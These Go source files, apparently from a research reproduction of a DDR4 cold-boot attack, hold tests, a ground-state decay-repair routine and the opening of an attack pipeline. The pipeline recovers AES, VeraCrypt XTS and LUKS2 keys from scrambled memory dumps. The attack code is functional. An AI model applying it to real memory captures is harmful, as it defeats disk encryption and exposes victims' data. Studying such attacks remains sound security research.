	dump := buildAttackDump(t, 1<<20, 44, workload.LightSystem, testMaster(404, 32), 4096*64)
	col := obs.NewCollector()
	if _, err := Attack(dump, Config{Tracer: col}); err != nil {
		t.Fatal(err)
	}
	rep := col.Report()
	want := []string{"attack", "mine", "directory", "hunt", "hunt.worker", "assemble"}
	if len(rep.Stages) != len(want) {
		t.Fatalf("got %d stages, want %d: %+v", len(rep.Stages), len(want), rep.Stages)
	}
	for i, name := range want {
		if rep.Stages[i].Name != name {
			t.Errorf("stage %d = %q, want %q", i, rep.Stages[i].Name, name)
		}
	}
	for _, counter := range []string{"mine.blocks_scanned", "hunt.pairs_tested", "assemble.keys"} {
		if _, ok := rep.Counters[counter]; !ok {
			t.Errorf("counter %q missing from trace report", counter)
		}
	}
	if rep.Counters["mine.blocks_scanned"] != int64(len(dump)/BlockBytes) {
		t.Errorf("mine.blocks_scanned = %d, want %d", rep.Counters["mine.blocks_scanned"], len(dump)/BlockBytes)
	}
	// The verify latency histogram must have sampled (a planted key always
	// reaches VerifySchedule at least once).
	var names []string
	for _, h := range rep.Histograms {
		names = append(names, h.Name)
		if h.Count <= 0 {
			t.Errorf("histogram %s has no samples", h.Name)
		}
	}
	found := false
	for _, n := range names {
		if n == "hunt.verify_ns" {
			found = true
		}
	}
	if !found {
		t.Errorf("hunt.verify_ns histogram missing from report (have %v)", names)
	}
}

// TestAttackSpanTree checks the attack builds a causal span tree: stage
// spans parent under the attack root, worker spans under the hunt stage.
func TestAttackSpanTree(t *testing.T) {
	dump := buildAttackDump(t, 1<<20, 44, workload.LightSystem, testMaster(404, 32), 4096*64)
	col := obs.NewCollector()
	if _, err := AttackContext(context.Background(), dump, Config{Tracer: col, Workers: 2}); err != nil {
		t.Fatal(err)
	}
	spans := col.Spans()
	byID := map[uint64]obs.SpanRecord{}
	var root obs.SpanRecord
	for _, s := range spans {
		byID[s.ID] = s
		if s.Name == "attack" {
			root = s
		}
	}
	if root.ID == 0 {
		t.Fatalf("no attack root span: %+v", spans)
	}
	if root.Parent != 0 {
		t.Errorf("attack root has parent %d, want none", root.Parent)
	}
	workers := 0
	for _, s := range spans {
		if s.Root != root.ID {
			t.Errorf("span %s not rooted at the attack span: %+v", s.Name, s)
		}
		switch s.Name {
		case "mine", "directory", "hunt", "assemble":
			if s.Parent != root.ID {
				t.Errorf("stage %s parent = %d, want attack %d", s.Name, s.Parent, root.ID)
			}
		case "hunt.worker":
			workers++
			if byID[s.Parent].Name != "hunt" {
				t.Errorf("hunt.worker parent is %q, want hunt", byID[s.Parent].Name)
			}
		}
	}
	if workers != 2 {
		t.Errorf("got %d hunt.worker spans, want 2", workers)
	}
}

// TestCampaignSpanTree checks sharded runs nest per-shard attack trees
// under the campaign root.
func TestCampaignSpanTree(t *testing.T) {
	dump := buildAttackDump(t, 1<<20, 45, workload.LightSystem, testMaster(405, 32), 4096*64)
	col := obs.NewCollector()
	if _, err := RunCampaign(context.Background(), dump, CampaignConfig{
		ShardBlocks: 8192, Parallel: 1, Attack: Config{Workers: 1, Tracer: col},
	}); err != nil {
		t.Fatal(err)
	}
	spans := col.Spans()
	byID := map[uint64]obs.SpanRecord{}
	var root obs.SpanRecord
	shardSpans, attacks := 0, 0
	for _, s := range spans {
		byID[s.ID] = s
		if s.Name == "campaign" {
			root = s
		}
	}
	if root.ID == 0 {
		t.Fatalf("no campaign root span: %+v", spans)
	}
	for _, s := range spans {
		switch s.Name {
		case "campaign.mine", "campaign.merge", "shard":
			if s.Parent != root.ID {
				t.Errorf("%s parent = %d, want campaign %d", s.Name, s.Parent, root.ID)
			}
			if s.Name == "shard" {
				shardSpans++
			}
		case "attack":
			attacks++
			if byID[s.Parent].Name != "shard" {
				t.Errorf("attack parent is %q, want shard", byID[s.Parent].Name)
			}
		}
		if s.Root != root.ID {
			t.Errorf("span %s escaped the campaign tree", s.Name)
		}
	}
	wantShards := len(Shards(len(dump)/BlockBytes, 8192, 0))
	if shardSpans < wantShards || attacks != shardSpans {
		t.Errorf("got %d shard spans and %d attack spans, want >=%d and equal", shardSpans, attacks, wantShards)
	}
}
