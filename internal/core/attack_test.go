package core

import (
	"bytes"
	"math/rand"
	"testing"

	"coldboot/internal/aes"
	"coldboot/internal/scramble"
	"coldboot/internal/workload"
)

// buildAttackDump builds a scrambled dump with an embedded AES key schedule:
// size bytes of workload-filled memory, the expansion of masterKey written
// at tableStart, everything scrambled with a fresh Skylake scrambler.
func buildAttackDump(t testing.TB, size int, seed int64, p workload.Profile, masterKey []byte, tableStart int) []byte {
	t.Helper()
	plain := make([]byte, size)
	if err := workload.Fill(plain, seed, p); err != nil {
		t.Fatal(err)
	}
	sched := aes.ExpandKeyBytes(masterKey)
	copy(plain[tableStart:], sched)
	s := scramble.NewSkylakeDDR4(uint64(seed)*31 + 7)
	dump := make([]byte, size)
	s.Scramble(dump, plain, 0)
	return dump
}

func testMaster(seed int64, n int) []byte {
	key := make([]byte, n)
	rand.New(rand.NewSource(seed)).Read(key)
	return key
}

func TestAttackRecoversAES256Key(t *testing.T) {
	master := testMaster(100, 32)
	// Table at an arbitrary word-aligned offset, not block aligned.
	const tableStart = 3*4096*64/2 + 36 // odd-ish placement, word aligned
	dump := buildAttackDump(t, 2<<20, 1, workload.LightSystem, master, tableStart)
	res, err := Attack(dump, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) == 0 {
		t.Fatalf("attack found no keys (stride %d, coverage %f, mined %d)",
			res.Stride, res.Coverage, len(res.Mine.Keys))
	}
	if !bytes.Equal(res.Keys[0].Master, master) {
		t.Fatalf("recovered wrong key:\n got %x\nwant %x", res.Keys[0].Master, master)
	}
	if res.Keys[0].Score < 0.999 {
		t.Errorf("clean dump score = %f, want ~1.0", res.Keys[0].Score)
	}
	if res.Keys[0].TableStart != tableStart {
		t.Errorf("table located at %d, want %d", res.Keys[0].TableStart, tableStart)
	}
}

func TestAttackRecoversAES128Key(t *testing.T) {
	master := testMaster(101, 16)
	const tableStart = 4096*64 + 512 + 8
	dump := buildAttackDump(t, 2<<20, 2, workload.LightSystem, master, tableStart)
	res, err := Attack(dump, Config{Variant: aes.AES128})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) == 0 || !bytes.Equal(res.Keys[0].Master, master) {
		t.Fatal("AES-128 key not recovered")
	}
}

func TestAttackRecoversAES192Key(t *testing.T) {
	master := testMaster(102, 24)
	const tableStart = 4096 * 64 * 2
	dump := buildAttackDump(t, 2<<20, 3, workload.LightSystem, master, tableStart)
	res, err := Attack(dump, Config{Variant: aes.AES192})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) == 0 || !bytes.Equal(res.Keys[0].Master, master) {
		t.Fatal("AES-192 key not recovered")
	}
}

func TestAttackDoubleScrambledDump(t *testing.T) {
	// The realistic capture: the victim DIMM is read in a second machine
	// whose own scrambler is ON. The dump is data ^ K_victim ^ K_attacker;
	// the litmus invariants survive the XOR, so the attack proceeds
	// unchanged — the paper's "an attacker does not require a machine with
	// a disabled scrambler".
	master := testMaster(103, 32)
	const tableStart = 4096*64 + 128
	dump := buildAttackDump(t, 2<<20, 4, workload.LightSystem, master, tableStart)
	attackerSide := scramble.NewSkylakeDDR4(0xA77AC4E4)
	doubled := make([]byte, len(dump))
	attackerSide.Scramble(doubled, dump, 0)

	res, err := Attack(doubled, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) == 0 || !bytes.Equal(res.Keys[0].Master, master) {
		t.Fatal("key not recovered through double scrambling")
	}
}

func TestAttackWithBitDecay(t *testing.T) {
	// Sparse decay (~0.1% of bits): litmus tolerances and majority voting
	// must absorb it.
	master := testMaster(104, 32)
	const tableStart = 4096*64 + 256
	dump := buildAttackDump(t, 2<<20, 5, workload.LightSystem, master, tableStart)
	rng := rand.New(rand.NewSource(6))
	flips := len(dump) * 8 / 1000 // 0.1%
	for i := 0; i < flips; i++ {
		bit := rng.Intn(len(dump) * 8)
		dump[bit/8] ^= 1 << uint(bit%8)
	}
	res, err := Attack(dump, Config{RepairFlips: 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) == 0 {
		t.Fatal("no key recovered under 0.1% decay")
	}
	if !bytes.Equal(res.Keys[0].Master, master) {
		t.Fatal("wrong key recovered under decay")
	}
	if res.Keys[0].Score < 0.95 {
		t.Errorf("decayed score %f unexpectedly low", res.Keys[0].Score)
	}
}

func TestAttackRepairFixesCorruptedWindow(t *testing.T) {
	// Corrupt exactly one bit inside EVERY anchor window region of the
	// schedule's interior blocks, leaving verify regions mostly intact:
	// without repair the derived masters are garbage; with single-bit
	// repair the key comes back.
	master := testMaster(105, 32)
	const tableStart = 4096 * 64 // block-aligned for easy bookkeeping
	dump := buildAttackDump(t, 2<<20, 7, workload.LightSystem, master, tableStart)
	// Flip bit 5 of the first word of each interior block of the table.
	for blk := 0; blk < 3; blk++ {
		pos := tableStart + blk*64
		dump[pos] ^= 1 << 5
	}
	noRepair, err := Attack(dump, Config{})
	if err != nil {
		t.Fatal(err)
	}
	withRepair, err := Attack(dump, Config{RepairFlips: 1})
	if err != nil {
		t.Fatal(err)
	}
	foundClean := false
	for _, k := range withRepair.Keys {
		if bytes.Equal(k.Master, master) {
			foundClean = true
		}
	}
	if !foundClean {
		t.Fatal("repair did not recover the key")
	}
	// The no-repair run may still find it via an anchor whose window
	// missed the flipped bits; what must hold is repair >= no-repair.
	if len(withRepair.Keys) < len(noRepair.Keys) {
		t.Error("repair lost keys")
	}
}

func TestAttackExhaustiveModeWithInjectedDirectory(t *testing.T) {
	// Validate the exhaustive scan path (every key tried on every block) on
	// a small dump with a hand-built directory: the true keys plus decoys.
	master := testMaster(106, 32)
	size := 64 << 10
	const tableStart = 1024
	plain := make([]byte, size)
	workload.Fill(plain, 8, workload.LightSystem)
	copy(plain[tableStart:], aes.ExpandKeyBytes(master))
	s := scramble.NewSkylakeDDR4(555)
	dump := make([]byte, size)
	s.Scramble(dump, plain, 0)

	var keys [][]byte
	for idx := uint64(0); idx < 64; idx++ { // true keys for the first 64 classes
		keys = append(keys, s.KeyAt(idx*BlockBytes))
	}
	decoy := scramble.NewSkylakeDDR4(777)
	for idx := uint64(0); idx < 64; idx++ {
		keys = append(keys, decoy.KeyAt(idx*BlockBytes))
	}
	res, err := Attack(dump, Config{KeysForBlock: func(int) [][]byte { return keys }})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) == 0 || !bytes.Equal(res.Keys[0].Master, master) {
		t.Fatal("exhaustive scan did not recover the key")
	}
	if res.PairsTested != int64(size/BlockBytes-countSkipped(res))*int64(len(keys)) {
		t.Logf("pairs tested: %d (skip-adjusted)", res.PairsTested)
	}
}

func countSkipped(res *Result) int {
	n := 0
	for _, k := range res.Mine.Keys {
		n += len(k.Positions)
	}
	return n
}

func TestAttackFindsBothXTSKeys(t *testing.T) {
	// VeraCrypt keeps the data and tweak schedules adjacent: the attack
	// must find two masters.
	m1 := testMaster(107, 32)
	m2 := testMaster(108, 32)
	size := 2 << 20
	const tableStart = 4096*64 + 64
	plain := make([]byte, size)
	workload.Fill(plain, 9, workload.LightSystem)
	copy(plain[tableStart:], aes.ExpandKeyBytes(m1))
	copy(plain[tableStart+240:], aes.ExpandKeyBytes(m2))
	s := scramble.NewSkylakeDDR4(888)
	dump := make([]byte, size)
	s.Scramble(dump, plain, 0)

	res, err := Attack(dump, Config{})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, k := range res.Keys {
		got[string(k.Master)] = true
	}
	if !got[string(m1)] || !got[string(m2)] {
		t.Fatalf("XTS key pair not fully recovered (%d keys found)", len(res.Keys))
	}
}

func TestAttackNoFalsePositivesOnKeylessDump(t *testing.T) {
	// A dump with no AES schedule must yield no keys.
	plain := make([]byte, 1<<20)
	workload.Fill(plain, 10, workload.LoadedSystem)
	s := scramble.NewSkylakeDDR4(999)
	dump := make([]byte, len(plain))
	s.Scramble(dump, plain, 0)
	res, err := Attack(dump, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) != 0 {
		t.Errorf("found %d phantom keys in schedule-free memory", len(res.Keys))
	}
}

func TestAttackRejectsUnalignedDump(t *testing.T) {
	if _, err := Attack(make([]byte, 100), Config{}); err == nil {
		t.Error("expected error")
	}
}

func TestVerifyScheduleScores(t *testing.T) {
	master := testMaster(109, 32)
	const tableStart = 4096 * 64
	dump := buildAttackDump(t, 2<<20, 11, workload.LightSystem, master, tableStart)
	mine, _ := MineKeys(dump, MineOptions{})
	dir := ResidueDirectory(mine, mine.InferStride())
	right := VerifySchedule(dump, dir, master, tableStart, aes.AES256)
	if right < 0.999 {
		t.Errorf("true key verify score = %f", right)
	}
	wrong := VerifySchedule(dump, dir, testMaster(42, 32), tableStart, aes.AES256)
	if wrong > 0.65 {
		t.Errorf("wrong key verify score = %f, want ~0.5", wrong)
	}
	if got := VerifySchedule(dump, dir, master, -10, aes.AES256); got != 0 {
		t.Errorf("negative table start score = %f", got)
	}
	if got := VerifySchedule(dump, dir, master, len(dump)-100, aes.AES256); got != 0 {
		t.Errorf("overflow table start score = %f", got)
	}
}

func TestExtractRemnant(t *testing.T) {
	// Once the master is known, boundary blocks give up their scrambler
	// keys: stored ^ expected-schedule = key.
	master := testMaster(110, 32)
	const tableStart = 4096 * 64
	dump := buildAttackDump(t, 1<<20, 12, workload.LightSystem, master, tableStart)
	s := scramble.NewSkylakeDDR4(uint64(12)*31 + 7) // same as builder
	blockIdx := tableStart / BlockBytes
	key := ExtractRemnant(dump, master, tableStart, blockIdx, aes.AES256)
	if key == nil {
		t.Fatal("no remnant extracted")
	}
	want := s.KeyAt(uint64(tableStart))
	if !bytes.Equal(key, want) {
		t.Error("remnant-extracted key differs from true scrambler key")
	}
	if got := ExtractRemnant(dump, master, tableStart, 0, aes.AES256); got != nil {
		t.Error("remnant from non-overlapping block should be nil")
	}
}

func BenchmarkAttackScanThroughput(b *testing.B) {
	// §III-C attack performance: the paper scanned 100 MB per 2 CPU-hours
	// with AES-NI. This benchmark reports our software-simulation rate.
	master := testMaster(111, 32)
	dump := buildAttackDump(b, 2<<20, 13, workload.LoadedSystem, master, 4096*64)
	b.SetBytes(int64(len(dump)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Attack(dump, Config{}); err != nil {
			b.Fatal(err)
		}
	}
}

func TestAttackSurvivesPermutedKeyMapping(t *testing.T) {
	// The paper's robustness claim: "simple permutations of the random
	// number generators and key mapping schemes ... would not affect this
	// attack". A scrambler variant with a bit-scrambled (non-periodic)
	// address→key mapping defeats the stride-inference shortcut, but the
	// exhaustive path — the paper's literal step 2 — still recovers the
	// key, at its higher cost.
	master := testMaster(200, 32)
	size := 512 << 10
	const tableStart = 300*64 + 16
	plain := make([]byte, size)
	workload.Fill(plain, 14, workload.LightSystem)
	copy(plain[tableStart:], aes.ExpandKeyBytes(master))
	perm := func(b uint64) int {
		// A 6-bit bit-reversal: no arithmetic period at all.
		x := b & 0x3F
		r := uint64(0)
		for i := 0; i < 6; i++ {
			r = r<<1 | (x>>uint(i))&1
		}
		return int(r)
	}
	s := scramble.NewSkylakeVariant(0xBADC0DE, 6, perm)
	dump := make([]byte, size)
	s.Scramble(dump, plain, 0)

	res, err := Attack(dump, Config{Exhaustive: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) == 0 || !bytes.Equal(res.Keys[0].Master, master) {
		t.Fatalf("exhaustive attack failed against permuted mapping (mined %d keys)",
			len(res.Mine.Keys))
	}
	// And the stride shortcut must honestly report that periodicity is
	// absent or useless rather than silently misattributing keys.
	if res.Stride != 0 {
		stride := res.Mine.InferStride()
		if stride == 64 {
			t.Log("bit-reversal preserved gcd periodicity by accident")
		}
	}
}

func TestVariantKeysPassLitmus(t *testing.T) {
	s := scramble.NewSkylakeVariant(42, 6, nil)
	for idx := uint64(0); idx < 64; idx++ {
		if !PassesKeyLitmus(s.KeyAt(idx*64), 0) {
			t.Fatalf("variant key %d fails litmus", idx)
		}
	}
}
