package core

import (
	"coldboot/internal/aes"
)

// Ground-state-aware decay repair (after Halderman et al.'s observation
// that DRAM decay is asymmetric, and the paper's §III-A profiling
// technique).
//
// A decayed bit always flips TOWARD its cell's ground state. The attacker
// can profile ground states with the dump machine itself: take the attack
// dump D = raw ⊕ K2, let the DIMM decay fully, and dump again WITHOUT
// rebooting: G = ground ⊕ K2. The keystream cancels in the comparison —
// a raw bit can have decayed only where D and G agree — so the repair
// search space shrinks to the "suspect" positions, typically half the
// window, which makes three-flip correction tractable where blind
// enumeration is not.

// SuspectMask returns, for the 64-byte block at blockIdx, a bitmask (one
// bit per data bit, LSB-first per byte) of positions where decay COULD have
// occurred: dump and groundDump agree there.
func SuspectMask(dump, groundDump []byte, blockIdx int) [BlockBytes]byte {
	var mask [BlockBytes]byte
	off := blockIdx * BlockBytes
	for i := 0; i < BlockBytes; i++ {
		// A bit is suspect where the dump already equals the ground read:
		// XOR gives 0 there, so invert.
		mask[i] = ^(dump[off+i] ^ groundDump[off+i])
	}
	return mask
}

// RepairWindowGround is RepairWindow restricted to ground-state suspect
// positions, which affords a deeper search (up to maxFlips = 3) under a
// verification budget: flips in positions that do not feed the in-block
// prediction stay "consistent", so every candidate costs a full-schedule
// verification — the budget bounds that. block is the descrambled 64-byte
// block containing the hit; dump and groundDump are the full captures the
// suspects are derived from.
//
//lint:ignore ctxthread bounded per-hit repair (explicit verifyBudget caps the work); cancellation lives in the calling stage
func RepairWindowGround(dump, groundDump []byte, keys KeyDirectory, block []byte, blockIdx int, hit ScheduleHit, v aes.Variant, maxFlips int, minScore float64) ([]byte, float64) {
	var rs repairScratch
	defer rs.wipe()
	m, s := repairWindowGroundScratch(&rs, dump, groundDump, keys, block, blockIdx, hit, v, maxFlips, minScore)
	return append([]byte{}, m...), s
}

// repairWindowGroundScratch is RepairWindowGround on caller scratch. The
// returned master aliases rs.best and is valid until the scratch is reused.
func repairWindowGroundScratch(rs *repairScratch, dump, groundDump []byte, keys KeyDirectory, block []byte, blockIdx int, hit ScheduleHit, v aes.Variant, maxFlips int, minScore float64) ([]byte, float64) {
	const verifyBudget = 1500
	r := newRepairer(rs, dump, keys, block, blockIdx, hit, v)
	mask := SuspectMask(dump, groundDump, blockIdx)

	// Collect suspect bit positions inside the window (reusing the scratch
	// slice across hits).
	winLo := 4 * hit.WordOffset * 8
	winHi := winLo + 4*r.nk*8
	suspects := rs.suspects[:0]
	for b := winLo; b < winHi; b++ {
		if mask[b/8]&(1<<uint(b%8)) != 0 {
			suspects = append(suspects, b)
		}
	}
	rs.suspects = suspects

	m, bestScore := r.tryMaster()
	bestMaster := append(rs.best[:0], m...)
	if bestScore >= minScore || maxFlips < 1 {
		return bestMaster, bestScore
	}
	budget := verifyBudget
	// Depth-first enumeration of up to maxFlips suspect flips with the
	// in-block prediction as a pruner and the verification budget as the
	// hard cost bound.
	var search func(startIdx, remaining int)
	search = func(startIdx, remaining int) {
		if bestScore >= minScore || budget <= 0 {
			return
		}
		for i := startIdx; i < len(suspects); i++ {
			r.flip(suspects[i])
			if r.consistent() {
				budget--
				if m, s := r.tryMaster(); s > bestScore {
					bestMaster, bestScore = append(rs.best[:0], m...), s
					if bestScore >= minScore {
						r.flip(suspects[i])
						return
					}
				}
			}
			if remaining > 1 {
				search(i+1, remaining-1)
			}
			r.flip(suspects[i])
			if bestScore >= minScore || budget <= 0 {
				return
			}
		}
	}
	for depth := 1; depth <= maxFlips && bestScore < minScore && budget > 0; depth++ {
		search(0, depth)
	}
	return bestMaster, bestScore
}
