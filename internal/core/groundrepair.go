package core

import (
	"coldboot/internal/aes"
)

// Ground-state-aware decay repair (after Halderman et al.'s observation
// that DRAM decay is asymmetric, and the paper's §III-A profiling
// technique).
//
// A decayed bit always flips TOWARD its cell's ground state. The attacker
// can profile ground states with the dump machine itself: take the attack
// dump D = raw ⊕ K2, let the DIMM decay fully, and dump again WITHOUT
// rebooting: G = ground ⊕ K2. The keystream cancels in the comparison —
// a raw bit can have decayed only where D and G agree — so the repair
// search space shrinks to the "suspect" positions, typically half the
// window, which makes three-flip correction tractable where blind
// enumeration is not.

// SuspectMask returns, for the 64-byte block at blockIdx, a bitmask (one
// bit per data bit, LSB-first per byte) of positions where decay COULD have
// occurred: dump and groundDump agree there.
func SuspectMask(dump, groundDump []byte, blockIdx int) [BlockBytes]byte {
	var mask [BlockBytes]byte
	off := blockIdx * BlockBytes
	for i := 0; i < BlockBytes; i++ {
		// A bit is suspect where the dump already equals the ground read:
		// XOR gives 0 there, so invert.
		mask[i] = ^(dump[off+i] ^ groundDump[off+i])
	}
	return mask
}

// RepairWindowGround is RepairWindow restricted to ground-state suspect
// positions, which affords a deeper search (up to maxFlips = 3) under a
// verification budget: flips in positions that do not feed the in-block
// prediction stay "consistent", so every candidate costs a full-schedule
// verification — the budget bounds that. block is the descrambled 64-byte
// block containing the hit; dump and groundDump are the full captures the
// suspects are derived from.
//
//lint:ignore ctxthread bounded per-hit repair (explicit verifyBudget caps the work); cancellation lives in the calling stage
func RepairWindowGround(dump, groundDump []byte, keys KeyDirectory, block []byte, blockIdx int, hit ScheduleHit, v aes.Variant, maxFlips int, minScore float64) ([]byte, float64) {
	const verifyBudget = 1500
	nk := v.Nk()
	tableStart := hit.TableStart(blockIdx)
	mask := SuspectMask(dump, groundDump, blockIdx)

	// Collect suspect bit positions inside the window.
	winLo := 4 * hit.WordOffset * 8
	winHi := winLo + 4*nk*8
	var suspects []int
	for b := winLo; b < winHi; b++ {
		if mask[b/8]&(1<<uint(b%8)) != 0 {
			suspects = append(suspects, b)
		}
	}

	work := make([]byte, len(block))
	copy(work, block)
	flip := func(bit int) { work[bit/8] ^= 1 << uint(bit%8) }
	tryMaster := func() ([]byte, float64) {
		words := aes.BytesToWords(work[4*hit.WordOffset : 4*hit.WordOffset+4*nk])
		master := aes.RecoverMasterKey(words, hit.ScheduleIndex, v)
		return master, VerifySchedule(dump, keys, master, tableStart, v)
	}
	consistent := func() bool {
		words := aes.BytesToWords(work)
		_, ok := predictAndCompare(words, hit.WordOffset, hit.ScheduleIndex, nk,
			hit.VerifiedWords, DefaultAESTolerance)
		return ok
	}

	bestMaster, bestScore := tryMaster()
	if bestScore >= minScore || maxFlips < 1 {
		return bestMaster, bestScore
	}
	budget := verifyBudget
	// Depth-first enumeration of up to maxFlips suspect flips with the
	// in-block prediction as a pruner and the verification budget as the
	// hard cost bound.
	var search func(startIdx, remaining int)
	search = func(startIdx, remaining int) {
		if bestScore >= minScore || budget <= 0 {
			return
		}
		for i := startIdx; i < len(suspects); i++ {
			flip(suspects[i])
			if consistent() {
				budget--
				if m, s := tryMaster(); s > bestScore {
					bestMaster, bestScore = m, s
					if bestScore >= minScore {
						flip(suspects[i])
						return
					}
				}
			}
			if remaining > 1 {
				search(i+1, remaining-1)
			}
			flip(suspects[i])
			if bestScore >= minScore || budget <= 0 {
				return
			}
		}
	}
	for depth := 1; depth <= maxFlips && bestScore < minScore && budget > 0; depth++ {
		search(0, depth)
	}
	return bestMaster, bestScore
}
