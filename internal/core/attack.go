package core

import (
	"bytes"
	"context"
	"fmt"
	"runtime"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"

	"coldboot/internal/aes"
	"coldboot/internal/bitutil"
	"coldboot/internal/format"
	"coldboot/internal/obs"
	"coldboot/internal/secret"
)

// Config tunes the full attack pipeline.
type Config struct {
	// Variant is the AES key size hunted for (default AES256, the
	// VeraCrypt/TrueCrypt case).
	Variant aes.Variant
	// Formats selects which target formats to hunt in the single
	// descramble pass: "aesxts" (the native AES-schedule hunt) plus any
	// name registered in internal/format ("luks2", "chacha20", ...). Nil
	// (the zero value) enables every known format. Unknown names fail the
	// attack up front.
	Formats []string
	// LitmusTolerance is the scrambler-key litmus bit budget.
	LitmusTolerance int
	// AESTolerance is the schedule-prediction compare bit budget.
	AESTolerance int
	// MergeDistance merges decayed key sightings (see MineOptions).
	MergeDistance int
	// MineMaxBytes bounds the mining pass (0 = whole dump). The paper
	// mined all keys from under 16 MB.
	MineMaxBytes int
	// MinVerifyScore accepts a candidate master whose full-schedule match
	// fraction reaches this value (default 0.80; correct keys score ~1.0,
	// wrong ones ~0.5).
	MinVerifyScore float64
	// Exhaustive forces trying every mined key on every block (the paper's
	// literal step 2) instead of the stride-inferred per-address-class
	// directory. Much slower; used for validation on small dumps.
	Exhaustive bool
	// RepairFlips enables window repair of decayed anchors (0 = off,
	// 1 = single-bit, 2 = double-bit).
	RepairFlips int
	// GroundDump, when non-nil (same length as the dump), enables
	// ground-state-aware repair: a second dump of the same DIMM taken
	// after full decay WITHOUT rebooting (the keystream cancels in the
	// comparison), restricting repair to bits that could physically have
	// decayed and affording a deeper (3-flip) search. See groundrepair.go.
	GroundDump []byte
	// Workers is the scan parallelism. Zero (the zero value) means one
	// worker per CPU — callers never need to set it.
	Workers int
	// KeysForBlock, when non-nil, overrides the key directory entirely
	// (used by tests and by attacks with out-of-band key knowledge).
	KeysForBlock KeyDirectory
	// Mine, when non-nil, is a precomputed mining result for this dump
	// (positions in dump-local block indices): the mine stage adopts it
	// instead of re-scanning. The campaign uses this to mine once globally
	// and share the key pool with every shard.
	Mine *MineResult
	// ScheduleCache memoizes expanded key schedules across candidate
	// verifications. Nil (the zero value) gives the attack a private
	// default-bounded cache; the campaign sets one explicitly so all shards
	// share a single cache (the same master re-sighted in the overlap
	// region expands once).
	ScheduleCache *ScheduleCache
	// Tracer observes the pipeline: per-stage wall time, candidate
	// counters, hunt progress, and per-chunk/per-verify latency
	// histograms. Nil means no tracing (obs.Nop).
	Tracer obs.Tracer
	// Span, when non-nil, parents the attack's root span under a caller
	// span (the campaign nests per-shard attacks this way; coldbootd nests
	// them under a per-job span). Nil means the attack starts its own
	// trace tree on the Tracer.
	Span obs.Span
	// skipFormatFilter leaves shard-local results untagged and unfiltered:
	// the campaign sets it so LUKS2 pair tagging and format filtering run
	// once over the MERGED key list (a schedule pair can straddle a shard
	// boundary, and dropping a lone half early would lose its twin's tag).
	skipFormatFilter bool
}

func (c Config) withDefaults() Config {
	if c.Variant == 0 {
		c.Variant = aes.AES256
	}
	if c.LitmusTolerance == 0 {
		c.LitmusTolerance = DefaultLitmusTolerance
	}
	if c.AESTolerance == 0 {
		c.AESTolerance = DefaultAESTolerance
	}
	if c.MinVerifyScore == 0 {
		c.MinVerifyScore = 0.80
	}
	if c.Workers <= 0 {
		c.Workers = runtime.NumCPU()
	}
	if c.ScheduleCache == nil {
		c.ScheduleCache = NewScheduleCache(0)
	}
	return c
}

// FoundKey is one recovered key.
type FoundKey struct {
	Master     []byte
	Variant    aes.Variant // key size for AES-schedule formats; zero otherwise
	TableStart int         // dump byte offset of the in-memory key material
	Score      float64     // verification match fraction
	Anchors    int         // number of independent anchor hits that agreed
	// Format is the registered name of the format this key belongs to
	// ("aesxts", "luks2", "chacha20", ...).
	Format string
	// Volume names the encrypted volume this key unlocks when the format
	// could tie them together (a LUKS2 header UUID); empty otherwise.
	Volume string
}

// Result is the attack's full output.
type Result struct {
	Mine          *MineResult
	Stride        int     // inferred key-reuse period in blocks (0 = none)
	Coverage      float64 // fraction of address classes with a mined key
	BlocksScanned int
	PairsTested   int64 // (block, key) combinations examined
	Keys          []FoundKey
	// Volumes are the encrypted-volume headers recognized in the dump
	// (offset order), independent of whether their keys were recovered.
	Volumes []format.Volume
}

// Stage is one named, cancellable step of the attack pipeline. Stages run
// in order over a shared AttackRun; each is timed through the run's tracer
// under its Name. Run must honour ctx: on cancellation it returns ctx.Err()
// promptly (within one scan chunk), leaving whatever partial products it
// produced in the run.
type Stage interface {
	Name() string
	Run(ctx context.Context, run *AttackRun) error
}

// AttackRun is the state threaded through the attack stages: the inputs
// (dump + config), the intermediate products each stage leaves for the
// next, and the final Result.
type AttackRun struct {
	Dump []byte
	Cfg  Config // defaults already applied
	// Mine is the mine stage's output.
	Mine *MineResult
	// Directory is the directory stage's output: candidate scrambler keys
	// per block index.
	Directory KeyDirectory
	// Res accumulates the final result; valid (possibly partial) even when
	// a stage returns early with an error.
	Res *Result

	tracer obs.Tracer
	// span is the attack's root span; stage spans nest under it. stage is
	// the span of the stage currently running (worker spans nest there).
	span  obs.Span
	stage obs.Span
	// skip is a bitset over block indices that cannot contain schedules
	// (mined-key sightings are zero-data blocks).
	skip []uint64
	// schedules memoizes candidate schedule expansions (Config.ScheduleCache
	// after defaulting).
	schedules *ScheduleCache
	// memo caches completed verify→refine outcomes per (pre-repair master,
	// table start): re-sighting an already-verified master at another anchor
	// window replays the recorded outcome instead of re-running the full
	// verification and refinement, which is where repeat anchors spent
	// nearly all their time. Only above-threshold initial verifications are
	// memoized — those flows never consult the (block-dependent) repair
	// paths, so the replay is exactly the recomputation.
	memoMu sync.RWMutex
	memo   map[string]*verifyOutcome // guarded by memoMu
	// rf is Cfg.Formats resolved against the format registry.
	rf resolvedFormats
	// found collects native AES candidates during the hunt, deduplicated
	// by master bytes; foundF collects prober findings deduplicated by
	// (format, key); volumes collects header sightings by offset. All
	// three share mu.
	mu      sync.Mutex
	found   map[string]*FoundKey  // guarded by mu
	foundF  map[string]*FoundKey  // guarded by mu
	volumes map[int]format.Volume // guarded by mu
}

// verifyOutcome is one memoized verify→refine result; outcomes for the
// same master at different table starts (duplicate schedules in memory)
// chain through next.
type verifyOutcome struct {
	start int
	final []byte
	score float64
	next  *verifyOutcome
}

// memoLookup returns the recorded outcome for (master, start), or nil.
func (run *AttackRun) memoLookup(master []byte, start int) *verifyOutcome {
	run.memoMu.RLock()
	o := run.memo[string(master)] // direct index: no key allocation
	run.memoMu.RUnlock()
	for ; o != nil; o = o.next {
		if o.start == start {
			return o
		}
	}
	return nil
}

